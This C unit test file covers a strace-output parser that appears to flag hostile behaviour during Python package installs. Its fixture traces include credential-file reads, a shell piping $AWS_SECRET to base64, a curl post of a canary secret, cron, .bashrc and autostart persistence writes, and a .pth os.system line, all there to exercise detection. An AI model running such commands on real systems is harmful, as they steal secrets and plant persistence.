/* Unit tests for guest/trace.c: strace output (as strace 6.1 prints it
 * with -f -y) into findings, including split lines, relative paths,
 * hostile strings and the allowed places. No tracing happens here. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include "../../guest/trace.h"
#include "jx.h"
#include "log.h"

static const char *const allow[] = {"/home/pyti/venv", "/home/pyti/work",
                                    "/tmp", "/home/pyti/.cache", NULL};
static const char *const canaries[] = {"/home/pyti/.ssh/id_rsa",
                                       "/home/pyti/.aws/credentials", NULL};
static const char *const exec_ok[] = {"python3*", "gcc", "x86_64-linux-gnu-*",
                                      NULL};
static const struct guest_trace_policy pol = {
    "install", "/home/pyti", allow, canaries, exec_ok, 53, NULL, NULL};

static struct guest_findings
parse(const char *text, struct guest_trace_stats *st)
{
	struct guest_findings f;

	guest_findings_init(&f);
	guest_trace_parse_text(text, strlen(text), &pol, &f, st);
	return f;
}

/* The finding of kind whose detail contains what, or NULL. */
static json_t *
finding(const struct guest_findings *f, const char *kind, const char *what)
{
	size_t i;
	json_t *v;

	json_array_foreach(f->list, i, v)
	{
		if (!strcmp(jx_str(v, "kind"), kind) &&
		    strstr(jx_str(v, "detail"), what))
			return v;
	}
	return NULL;
}

/* The detail of the first finding of kind, or NULL. */
static const char *
detail_of(const struct guest_findings *f, const char *kind)
{
	json_t *v = finding(f, kind, "");

	return v ? jx_str(v, "detail") : NULL;
}

static void
test_guest_trace_clean_install_has_no_findings(void **state)
{
	struct guest_trace_stats st = {0};
	struct guest_findings f = parse(
	    "100 execve(\"/home/pyti/venv/bin/python3\", [\"python3\", \"-m\", "
	    "\"pip\"], 0x7ffd /* 3 vars */) = 0\n"
	    "100 openat(AT_FDCWD</home/pyti/work>, "
	    "\"/home/pyti/venv/lib/python3.11/site-packages/foo/__init__.py\", "
	    "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0644) = "
	    "3</home/pyti/venv/lib/python3.11/site-packages/foo/__init__.py>\n"
	    "100 openat(AT_FDCWD</home/pyti/work>, \"build/x.o\", "
	    "O_RDWR|O_CREAT, 0644) = 4</home/pyti/work/build/x.o>\n"
	    "100 openat(AT_FDCWD</home/pyti/work>, \"/etc/ld.so.cache\", "
	    "O_RDONLY|O_CLOEXEC) = 3</etc/ld.so.cache>\n"
	    "100 connect(3<socket:[1]>, {sa_family=AF_UNIX, "
	    "sun_path=\"/var/run/nscd/socket\"}, 110) = -1 ENOENT (No such "
	    "file or directory)\n"
	    "100 vfork( <unfinished ...>\n"
	    "101 execve(\"/usr/bin/gcc\", [\"gcc\", \"-c\", \"x.c\"], 0x1 /* 1 "
	    "vars */ <unfinished ...>\n"
	    "100 <... vfork resumed>)              = 101\n"
	    "101 <... execve resumed>)             = 0\n"
	    "101 unlinkat(AT_FDCWD</home/pyti/work>, \"tmp.o\", 0) = 0\n"
	    "101 mkdir(\"build/lib\", 0777) = 0\n"
	    "101 execve(\"/usr/local/bin/lsb_release\", [\"lsb_release\", "
	    "\"-a\"], 0x1 /* 1 vars */) = -1 ENOENT (No such file or "
	    "directory)\n"
	    "101 bind(3<socket:[9]>, {sa_family=AF_INET6, sin6_port=htons(0), "
	    "sin6_flowinfo=htonl(0), inet_pton(AF_INET6, \"::1\", &sin6_addr), "
	    "sin6_scope_id=0}, 28) = 0\n"
	    "101 +++ exited with 0 +++\n",
	    &st);

	assert_int_equal(json_array_size(f.list), 0);
	assert_int_equal(st.execs, 2);
	assert_int_equal(st.writes, 2);
	assert_int_equal(st.calls, 11);
	guest_findings_release(&f);
}

static void
test_guest_trace_network_attempts(void **state)
{
	struct guest_findings f = parse(
	    "7 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = "
	    "0\n"
	    "7 connect(3<socket:[47531]>, {sa_family=AF_INET, "
	    "sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.7\")}, 16) = "
	    "-1 ENETUNREACH (Network is unreachable)\n"
	    "7 connect(3<socket:[47531]>, {sa_family=AF_INET, "
	    "sin_port=htons(443), sin_addr=inet_addr(\"203.0.113.7\")}, 16) = "
	    "-1 ENETUNREACH (Network is unreachable)\n"
	    "7 sendto(4<socket:[2]>, \"x\", 1, 0, {sa_family=AF_INET6, "
	    "sin6_port=htons(53), sin6_flowinfo=htonl(0), inet_pton(AF_INET6, "
	    "\"2001:db8::1\", &sin6_addr), sin6_scope_id=0}, 28) = -1 "
	    "ENETUNREACH (Network is unreachable)\n"
	    "7 sendto(5<socket:[3]>, \"\\x12\\x34\", 30, MSG_NOSIGNAL, "
	    "{sa_family=AF_INET, sin_port=htons(53), "
	    "sin_addr=inet_addr(\"127.0.0.1\")}, 16) = 30\n"
	    "7 bind(6<socket:[4]>, {sa_family=AF_INET, sin_port=htons(4444), "
	    "sin_addr=inet_addr(\"0.0.0.0\")}, 16) = 0\n",
	    NULL);

	/* the repeated connect is one finding; the stub query is none */
	assert_int_equal(guest_findings_count(&f, "network.connect"), 1);
	assert_string_equal(detail_of(&f, "network.connect"),
	                    "connect to 203.0.113.7 port 443 (inet): "
	                    "ENETUNREACH");
	assert_int_equal(guest_findings_count(&f, "network.dns"), 1);
	assert_string_equal(detail_of(&f, "network.dns"),
	                    "DNS query to 2001:db8::1 port 53");
	assert_int_equal(guest_findings_count(&f, "network.listen"), 1);
	assert_int_equal(f.critical, 2);
	guest_findings_release(&f);
}

static void
test_guest_trace_files_canaries_channel_persistence(void **state)
{
	struct guest_findings f = parse(
	    "9 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = "
	    "0\n"
	    "9 openat(AT_FDCWD</home/pyti/work>, \"../.ssh/id_rsa\", "
	    "O_RDONLY|O_CLOEXEC) = 3</home/pyti/.ssh/id_rsa>\n"
	    "9 openat(AT_FDCWD</home/pyti/work>, "
	    "\"/home/pyti/.aws/credentials\", O_RDONLY) = -1 EACCES "
	    "(Permission denied)\n"
	    "9 openat(AT_FDCWD</>, \"/dev/vport2p1\", O_WRONLY) = -1 EACCES "
	    "(Permission denied)\n"
	    "9 openat(AT_FDCWD</home/pyti/work>, \"/home/pyti/.bashrc\", "
	    "O_WRONLY|O_APPEND) = 3</home/pyti/.bashrc>\n"
	    "9 openat(AT_FDCWD</home/pyti/work>, "
	    "\"/home/pyti/venv/lib/python3.11/site-packages/"
	    "sitecustomize.py\", O_WRONLY|O_CREAT|O_TRUNC, 0666) = "
	    "3</home/pyti/venv/lib/python3.11/site-packages/sitecustomize.py>\n"
	    "9 openat(AT_FDCWD</home/pyti/work>, \"/home/pyti/notes.txt\", "
	    "O_WRONLY|O_CREAT|O_TRUNC, 0666) = 3</home/pyti/notes.txt>\n"
	    "9 openat(AT_FDCWD</home/pyti/work>, \"/etc/shadow\", O_RDONLY) = "
	    "-1 EACCES (Permission denied)\n"
	    "9 unlink(\"/home/pyti/.gitconfig\") = 0\n"
	    "9 rename(\"/tmp/a\", \"/home/pyti/.config/autostart/x.desktop\") "
	    "= 0\n"
	    "9 openat(AT_FDCWD</>, \"/var/spool/cron/crontabs/pyti\", "
	    "O_WRONLY|O_CREAT, 0600) = -1 EACCES (Permission denied)\n",
	    NULL);

	assert_int_equal(guest_findings_count(&f, "credential.read"), 2);
	assert_int_equal(guest_findings_count(&f, "channel.forgery"), 1);
	assert_int_equal(guest_findings_count(&f, "persistence.bashrc"), 1);
	assert_int_equal(guest_findings_count(&f, "persistence.sitecustomize"),
	                 1);
	assert_int_equal(guest_findings_count(&f, "file.write_outside"), 1);
	assert_string_equal(detail_of(&f, "file.write_outside"),
	                    "wrote /home/pyti/notes.txt");
	assert_int_equal(guest_findings_count(&f, "file.read_sensitive"), 1);
	assert_int_equal(guest_findings_count(&f, "file.delete_outside"), 1);
	assert_int_equal(guest_findings_count(&f, "persistence.autostart"), 1);
	/* a refused write is the same finding, marked as an attempt */
	assert_int_equal(guest_findings_count(&f, "persistence.crontab"), 1);
	assert_string_equal(detail_of(&f, "persistence.crontab"),
	                    "tried to write /var/spool/cron/crontabs/pyti: "
	                    "EACCES");
	guest_findings_release(&f);
}

static void
test_guest_trace_exec_and_fork_failure(void **state)
{
	struct guest_findings f = parse(
	    "5 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = "
	    "0\n"
	    "6 execve(\"/bin/sh\", [\"/bin/sh\", \"-c\", \"echo $AWS_SECRET | "
	    "base64\"], 0x1 /* 20 vars */) = 0\n"
	    "7 execve(\"/usr/bin/crontab\", [\"crontab\", \"-\"], 0x1 /* 20 "
	    "vars */) = 0\n"
	    "8 execve(\"/usr/bin/curl\", [\"curl\", \"-d\", "
	    "\"k=pyti-canary-aws-secret-00\", \"http://x\"], 0x1 /* 1 vars */) "
	    "= -1 ENOENT (No such file or directory)\n"
	    "9 execve(\"./payload\", [\"./payload\"], 0x1 /* 1 vars */) = 0\n"
	    "5 clone(child_stack=NULL, flags=CLONE_CHILD_CLEARTID|SIGCHLD, "
	    "child_tidptr=0x7f) = -1 EAGAIN (Resource temporarily "
	    "unavailable)\n"
	    "5 clone(child_stack=NULL, flags=SIGCHLD) = -1 EAGAIN (Resource "
	    "temporarily unavailable)\n",
	    NULL);

	assert_int_equal(guest_findings_count(&f, "process.exec"), 4);
	assert_int_equal(guest_findings_count(&f, "persistence.crontab"), 1);
	assert_int_equal(guest_findings_count(&f, "credential.leak"), 1);
	assert_int_equal(guest_findings_count(&f, "resource.fork_bomb"), 1);
	assert_non_null(strstr(detail_of(&f, "process.exec"), "/bin/sh"));
	guest_findings_release(&f);
}

/* A disk filler that stops at RLIMIT_FSIZE and deletes its file leaves no
 * trace in the disk samples between two ticks: the SIGXFSZ line (strace
 * sees the signal although Python ignores it) is the finding, once. */
static void
test_guest_trace_file_size_signal_is_disk(void **state)
{
	struct guest_findings f = parse(
	    "5 openat(AT_FDCWD</w>, \"/tmp/.fill\", "
	    "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = 3</tmp/.fill>\n"
	    "5 --- SIGXFSZ {si_signo=SIGXFSZ, si_code=SI_USER, si_pid=5, "
	    "si_uid=1000} ---\n"
	    "6 --- SIGXFSZ {si_signo=SIGXFSZ, si_code=SI_USER, si_pid=6, "
	    "si_uid=1000} ---\n"
	    "5 --- SIGCHLD {si_signo=SIGCHLD} ---\n"
	    "5 unlink(\"/tmp/.fill\") = 0\n",
	    NULL);
	struct guest_findings g = parse(
	    "5 write(1, \"--- SIGXFSZ {}\", 14) = 14\n"
	    "5 openat(AT_FDCWD, \"/tmp/--- SIGXFSZ \", O_RDONLY) = 3\n",
	    NULL);

	assert_int_equal(guest_findings_count(&f, "resource.disk"), 1);
	assert_non_null(strstr(detail_of(&f, "resource.disk"), "pid 5"));
	assert_int_equal(guest_findings_count(&g, "resource.disk"), 0);
	guest_findings_release(&f);
	guest_findings_release(&g);
}

/* poetry-core, setuptools-scm, hatch-vcs look for git: execvp() walks
 * PATH, whose first entries are pip's build environment (under /tmp) and
 * the venv (under $HOME). A program that is in none of them was not run:
 * no finding, unless it is one that matters (curl, a shell). */
static void
test_guest_trace_path_lookup_is_no_exec(void **state)
{
	struct guest_findings f = parse(
	    "5 execve(\"/usr/bin/python3\", [\"python3\"], 0x1 /* 1 vars */) = "
	    "0\n"
	    "6 execve(\"/tmp/pip-build-env-cg0d/overlay/bin/git\", [\"git\", "
	    "\"rev-parse\"], 0x1 /* 9 vars */) = -1 ENOENT (No such file or "
	    "directory)\n"
	    "6 execve(\"/home/pyti/venv/bin/git\", [\"git\", \"rev-parse\"], "
	    "0x1 /* 9 vars */) = -1 ENOENT (No such file or directory)\n"
	    "6 execve(\"/tmp/pip-build-env-cg0d/normal/bin/curl\", [\"curl\"], "
	    "0x1 /* 9 vars */) = -1 ENOENT (No such file or directory)\n",
	    NULL);

	assert_int_equal(guest_findings_count(&f, "process.exec"), 1);
	assert_non_null(strstr(detail_of(&f, "process.exec"), "curl"));
	guest_findings_release(&f);
}

static void
test_guest_trace_hostile_text(void **state)
{
	char big[40000], *dump;
	struct guest_findings f;

	/* an unclosed quote, invalid UTF-8 in a path, a huge line, a line
	 * that is not a call, a resumed line with nothing pending */
	memset(big, 'A', sizeof(big) - 2);
	big[sizeof(big) - 2] = '\n';
	big[sizeof(big) - 1] = '\0';
	f = parse("1 execve(\"/usr/bin/python3\", [], 0) = 0\n"
	          "1 openat(AT_FDCWD</>, \"/etc/x\\377\\300y, O_WRONLY) = 3\n"
	          "1 openat(AT_FDCWD</>, \"/etc/\\377\\300y\", O_WRONLY) = "
	          "3</etc/\\377\\300y>\n"
	          "2 <... openat resumed>) = 0\n"
	          "garbage\n"
	          "3 --- SIGCHLD {si_signo=SIGCHLD} ---\n",
	          NULL);
	assert_int_equal(guest_findings_count(&f, "file.write_outside"), 1);
	dump = json_dumps(f.list, 0); /* valid UTF-8 JSON */
	assert_non_null(dump);
	free(dump);
	guest_findings_release(&f);
	f = parse(big, NULL);
	assert_int_equal(json_array_size(f.list), 0);
	guest_findings_release(&f);
}

static void
test_guest_persistence_and_pth(void **state)
{
	assert_string_equal(
	    guest_persistence_kind("/home/pyti/.profile", "/home/pyti"),
	    "persistence.bashrc");
	assert_string_equal(
	    guest_persistence_kind("/etc/cron.d/x", "/home/pyti"),
	    "persistence.crontab");
	assert_null(
	    guest_persistence_kind("/home/pyti/venv/x.py", "/home/pyti"));
	/* pip's build isolation writes its own sitecustomize.py: not
	 * persistence (it flagged every isolated build as hostile) */
	assert_null(guest_persistence_kind(
	    "/tmp/pip-build-env-_us3gf8e/site/sitecustomize.py", "/home/pyti"));
	assert_string_equal(
	    guest_persistence_kind(
	        "/tmp/pip-build-env-x/site/lib/sitecustomize.py", "/home/pyti"),
	    "persistence.sitecustomize");
	assert_string_equal(
	    guest_persistence_kind("/tmp/sitecustomize.py", "/home/pyti"),
	    "persistence.sitecustomize");
	assert_true(
	    guest_pth_executable("./lib\nimport os; os.system('x')\n", 31));
	assert_false(
	    guest_pth_executable("./lib\n# import os\nimportlib\n", 27));
}

static void
test_guest_findings_cap_dedupe_and_utf8(void **state)
{
	struct guest_findings f;
	json_t *j;

	guest_findings_init(&f);
	assert_int_equal(
	    guest_finding_add(&f, "network.connect", NULL, "t", NULL, "same"),
	    1);
	assert_int_equal(
	    guest_finding_add(&f, "network.connect", NULL, "t", NULL, "same"),
	    0);
	/* the same detail in another task is another finding */
	assert_int_equal(
	    guest_finding_add(&f, "network.connect", NULL, "u", NULL, "same"),
	    1);
	for (int i = 0; i < GUEST_FINDINGS_MAX + 10; i++)
		guest_finding_add(&f, "process.exec", NULL, "t", NULL, "n%d",
		                  i);
	assert_int_equal(json_array_size(f.list), GUEST_FINDINGS_MAX);
	assert_int_equal(f.dropped, 12);
	assert_int_equal(f.critical, 2);
	guest_findings_release(&f);
	j = guest_jstr("a\xff\xc3\xa9\0b", 6);
	assert_string_equal(json_string_value(j), "a?\xc3\xa9?b");
	json_decref(j);
}

static void
test_guest_trace_refused_attempts_are_findings(void **state)
{
	struct guest_trace_stats st = {0};
	struct guest_findings f = parse(
	    /* sh -c 'echo x > /etc/cron.d/pyti': the redirection */
	    "200 execve(\"/bin/sh\", [\"sh\", \"-c\", \"echo x > "
	    "/etc/cron.d/pyti\"], 0x1 /* 1 vars */) = 0\n"
	    "200 openat(AT_FDCWD</tmp>, \"/etc/cron.d/pyti\", "
	    "O_WRONLY|O_CREAT|O_TRUNC, 0666) = -1 EACCES (Permission "
	    "denied)\n"
	    /* shutil.copy of the interpreter into /usr/local/bin */
	    "201 openat(AT_FDCWD</tmp>, \"/usr/local/bin/python3\", "
	    "O_WRONLY|O_CREAT|O_TRUNC|O_CLOEXEC, 0666) = -1 EACCES "
	    "(Permission denied)\n"
	    "201 rename(\"/tmp/x\", \"/usr/bin/pip\") = -1 EACCES "
	    "(Permission denied)\n"
	    "201 unlinkat(AT_FDCWD</tmp>, \"/etc/hosts\", 0) = -1 EPERM "
	    "(Operation not permitted)\n"
	    "201 chmod(\"/usr/lib/x\", 0777) = -1 EROFS (Read-only file "
	    "system)\n"
	    /* not an attempt worth a finding: the place does not exist */
	    "201 openat(AT_FDCWD</tmp>, \"/nonexistent/x\", "
	    "O_WRONLY|O_CREAT, 0666) = -1 ENOENT (No such file or "
	    "directory)\n"
	    /* a persistence place the image lacks: still an attempt */
	    "201 openat(AT_FDCWD</tmp>, \"/etc/cron.d/pyti-x\", "
	    "O_WRONLY|O_CREAT|O_TRUNC, 0666) = -1 ENOENT (No such file or "
	    "directory)\n"
	    /* refused inside an allowed place: nothing */
	    "201 openat(AT_FDCWD</tmp>, \"/tmp/ro\", O_WRONLY, 0666) = -1 "
	    "EACCES (Permission denied)\n",
	    &st);
	json_t *v;

	v = finding(&f, "persistence.crontab", "/etc/cron.d/pyti");
	assert_non_null(v);
	assert_true(json_is_true(
	    json_object_get(json_object_get(v, "evidence"), "attempted")));
	assert_string_equal(jx_str(json_object_get(v, "evidence"), "errno"),
	                    "EACCES");
	v = finding(&f, "file.write_outside", "/usr/local/bin/python3");
	assert_non_null(v);
	assert_true(json_is_true(
	    json_object_get(json_object_get(v, "evidence"), "attempted")));
	assert_non_null(strstr(jx_str(v, "detail"), "tried to write"));
	assert_non_null(finding(&f, "file.write_outside", "/usr/bin/pip"));
	assert_non_null(finding(&f, "file.delete_outside", "/etc/hosts"));
	assert_non_null(finding(&f, "file.write_outside", "/usr/lib/x"));
	assert_null(finding(&f, "file.write_outside", "/nonexistent"));
	v = finding(&f, "persistence.crontab", "/etc/cron.d/pyti-x");
	assert_non_null(v);
	assert_true(json_is_true(
	    json_object_get(json_object_get(v, "evidence"), "attempted")));
	assert_null(finding(&f, "file.write_outside", "/tmp/ro"));
	assert_int_equal(st.writes, 0);
	guest_findings_release(&f);
}

static void
test_guest_trace_truncated_is_a_finding(void **state)
{
	char path[] = "/tmp/pyti-trace-XXXXXX";
	int fd = mkstemp(path);
	struct guest_findings f;
	struct guest_trace_stats st = {0};
	json_t *v;
	const char *line = "300 openat(AT_FDCWD</tmp>, \"/tmp/pad\", "
	                   "O_RDONLY) = 3</tmp/pad>\n";

	assert_true(fd >= 0);
	for (int i = 0; i < 200; i++)
		assert_true(write(fd, line, strlen(line)) ==
		            (ssize_t)strlen(line));
	/* what the package did after the padding */
	{
		const char *late = "300 openat(AT_FDCWD</tmp>, "
		                   "\"/home/pyti/.bashrc\", O_WRONLY|O_APPEND) "
		                   "= 3</home/pyti/.bashrc>\n";

		assert_true(write(fd, late, strlen(late)) ==
		            (ssize_t)strlen(late));
	}
	close(fd);
	guest_findings_init(&f);
	assert_int_equal(guest_trace_parse_file(path, &pol, &f, &st, 4096), 0);
	assert_true(st.truncated);
	v = finding(&f, "trace.truncated", "trace");
	assert_non_null(v);
	assert_string_equal(jx_str(v, "severity"), "warning");
	assert_int_equal(json_integer_value(json_object_get(
	                     json_object_get(v, "evidence"), "parsed")),
	                 4096);
	assert_true(json_integer_value(json_object_get(
	                json_object_get(v, "evidence"), "bytes")) >
	            200 * (json_int_t)strlen(line));
	guest_findings_release(&f);
	/* the whole file: no truncation finding, the late write seen */
	guest_findings_init(&f);
	guest_trace_parse_file(path, &pol, &f, &st, 1 << 20);
	assert_null(finding(&f, "trace.truncated", "trace"));
	assert_non_null(finding(&f, "persistence.bashrc", ".bashrc"));
	guest_findings_release(&f);
	unlink(path);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
	    cmocka_unit_test(test_guest_trace_clean_install_has_no_findings),
	    cmocka_unit_test(test_guest_trace_network_attempts),
	    cmocka_unit_test(
	        test_guest_trace_files_canaries_channel_persistence),
	    cmocka_unit_test(test_guest_trace_exec_and_fork_failure),
	    cmocka_unit_test(test_guest_trace_file_size_signal_is_disk),
	    cmocka_unit_test(test_guest_trace_path_lookup_is_no_exec),
	    cmocka_unit_test(test_guest_trace_hostile_text),
	    cmocka_unit_test(test_guest_persistence_and_pth),
	    cmocka_unit_test(test_guest_findings_cap_dedupe_and_utf8),
	    cmocka_unit_test(test_guest_trace_refused_attempts_are_findings),
	    cmocka_unit_test(test_guest_trace_truncated_is_a_finding),
	};

	log_set_prog("test_guest_trace");
	return cmocka_run_group_tests(tests, NULL, NULL);
}
